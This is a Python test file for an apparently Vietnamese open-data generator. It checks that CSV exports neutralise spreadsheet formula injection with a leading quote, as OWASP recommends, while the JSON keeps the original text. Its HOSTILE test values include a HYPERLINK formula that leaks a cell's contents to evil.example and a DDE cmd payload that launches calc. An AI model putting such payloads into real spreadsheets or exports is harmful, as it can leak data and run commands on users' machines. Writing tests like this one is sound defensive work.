"""Issue 31, point 1: no cell of the open data's CSV files runs in a spreadsheet.

A task text or an agency name beginning with = + - @ passes `make validate` (it is text a
document may print); the CSV files neutralise it the way OWASP recommends (one ' before the
cell), the JSON keeps it as typed. Checked through `python -m generator export` on a copy of
the test data with hostile values, every CSV file it writes."""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
from pathlib import Path

from generator.publish import export
from tests.smalldata import PLAN, ROOT, mutated

HOSTILE = {
    "agency": "=1+1",
    "short": '=HYPERLINK("http://evil.example/?leak="&A3,"Xem văn bản gốc")',
    "content": "@SUM(1+1)*cmd|' /C calc'!A0",
    "title": "+1+2",  # a plan's title
    "note": "-2+3",
    "alias": "  =1+1",  # behind spaces: an importer that trims finds the formula
    "contact": "'=1+1",  # a quote already: also prefixed, so the rule is reversible
    "form": "＝1+1",  # full-width equals sign
}
# A formula's start, once leading spaces are skipped (full-width forms too).
STARTS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")


def _hostile_data(tmp_path: Path) -> Path:
    h = HOSTILE
    return mutated(
        tmp_path,
        ("agencies/son-la.yml", 'name: "Sở Công Thương tỉnh Sơn La"', f"name: '{h['agency']}'"),
        ("agencies/son-la.yml", 'short_name: "Sở Công Thương"', f"short_name: '{h['short']}'"),
        ("agencies/son-la.yml", 'aliases: ["Sở Công thương"]', f"aliases: ['{h['alias']}']"),
        (
            PLAN,
            "          Tổ chức tuần hàng kiểm thử tại tỉnh Sơn La.\n\n          Đoạn thứ hai của nội dung nhiệm vụ.",
            f"          {h['content']}",
        ),
        (
            PLAN,
            'title: "Thực hiện Biên bản ghi nhớ kiểm thử giữa tỉnh Sơn La và tỉnh Thanh Hóa năm 2026"',
            f"title: '{h['title']}'",
        ),
        (PLAN, "        note: Ghi chú kiểm thử.", f"        note: '{h['note']}'"),
        (PLAN, '        contact: "Ông Nguyễn Văn A, 0212 000 000"', f'        contact: "{h["contact"]}"'),
        (PLAN, "        form: Tổ chức tại tỉnh Sơn La", f"        form: '{h['form']}'"),
    )


def _export(data: Path, out: Path) -> None:
    result = subprocess.run(
        [sys.executable, "-m", "generator", "export", "--data", str(data), "--out", str(out)],
        cwd=ROOT,
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert result.returncode == 0, result.stderr


def _cells(path: Path) -> list[str]:
    rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"), newline="")))
    return [cell for row in rows[1:] for cell in row]


def test_no_csv_cell_starts_a_formula_and_the_json_keeps_the_text(tmp_path):
    data = _hostile_data(tmp_path)
    out = tmp_path / "out"
    _export(data, out)
    csv_files = sorted(out.rglob("*.csv"))
    assert len(csv_files) >= 20  # tasks, agencies, … and one per plan, agency, partnership
    seen = set()
    for path in csv_files:
        for cell in _cells(path):
            assert cell == "-" or not cell.lstrip(" \u00a0\u3000\n").startswith(STARTS), (path, cell)
            if cell.startswith("'"):
                seen.add(cell[1:])  # one ' removed: the text as typed
    assert set(HOSTILE.values()) <= seen, set(HOSTILE.values()) - seen
    agencies = json.loads((out / "agencies.json").read_text(encoding="utf-8"))
    named = next(a for a in agencies if a["id"] == "son-la-so-cong-thuong")
    assert (named["name"], named["short_name"], named["aliases"]) == (
        HOSTILE["agency"],
        HOSTILE["short"],
        [HOSTILE["alias"]],
    )
    tasks = json.loads((out / "tasks.json").read_text(encoding="utf-8"))
    task = next(t for t in tasks if t["id"] == "son-la-kiem-thu-2026/i-1")
    assert (task["content"], task["note"], task["contact"], task["form"]) == (
        HOSTILE["content"],
        HOSTILE["note"],
        HOSTILE["contact"],
        HOSTILE["form"],
    )
    plans = json.loads((out / "plans.json").read_text(encoding="utf-8"))
    assert next(p for p in plans if p["id"] == "son-la-kiem-thu-2026")["title"] == HOSTILE["title"]
    # in the per-agency file too, which names the agency in its lead_names column
    per_agency = _cells(out / "co-quan" / "son-la-so-cong-thuong.csv")
    assert "'" + HOSTILE["agency"] in per_agency


def test_numbers_and_a_lone_dash_stay_as_they_are():
    assert export._cell(-21.5) == "-21.5" and export._cell(-3) == "-3"  # a number is no formula
    assert export._cell("-") == "-"  # an unnumbered task: nothing follows the dash
    assert export._cell(["- a", "b"]) == "'- a; b"  # a list: its cell's start counts
    assert export._cell(["a", "=b"]) == "a; =b"
    assert export._cell("a = b") == "a = b"


def test_the_real_datas_list_items_are_prefixed_and_lone_dashes_kept(catalog):
    """What was chosen for the real data's 139 cells beginning with '-' (issue 31): the 53 list
    items ('- Bộ Chỉ huy…') get the ' like every other such cell (Excel reads '- 2+3' as a
    formula); the 86 task numbers that are a lone '-' stay as printed."""
    tasks = export.to_csv(export.records(catalog)["tasks"]).decode("utf-8-sig")
    cells = [c for row in csv.reader(io.StringIO(tasks, newline="")) for c in row]
    assert sum(c.startswith("'- ") for c in cells) == 53
    assert cells.count("-") == 86
    assert not [c for c in cells if c != "-" and c.startswith(STARTS)]


def test_the_rule_is_documented_in_the_data_package_and_on_du_lieu_mo(tmp_path):
    from generator.publish.datapackage import CSV_FORMULA_NOTE

    out = tmp_path / "out"
    _export(ROOT / "tests" / "fixtures" / "data-small", out)
    package = json.loads((out / "datapackage.json").read_text(encoding="utf-8"))
    assert "OWASP" in package["description"]
    assert all(r["description"] == CSV_FORMULA_NOTE for r in package["resources"])
    from generator.build import build_site

    site = build_site(ROOT / "tests" / "fixtures" / "data-small", ROOT, with_side_files=False)
    assert "theo khuyến nghị của OWASP" in site.bodies["du-lieu-mo/index.md"].body
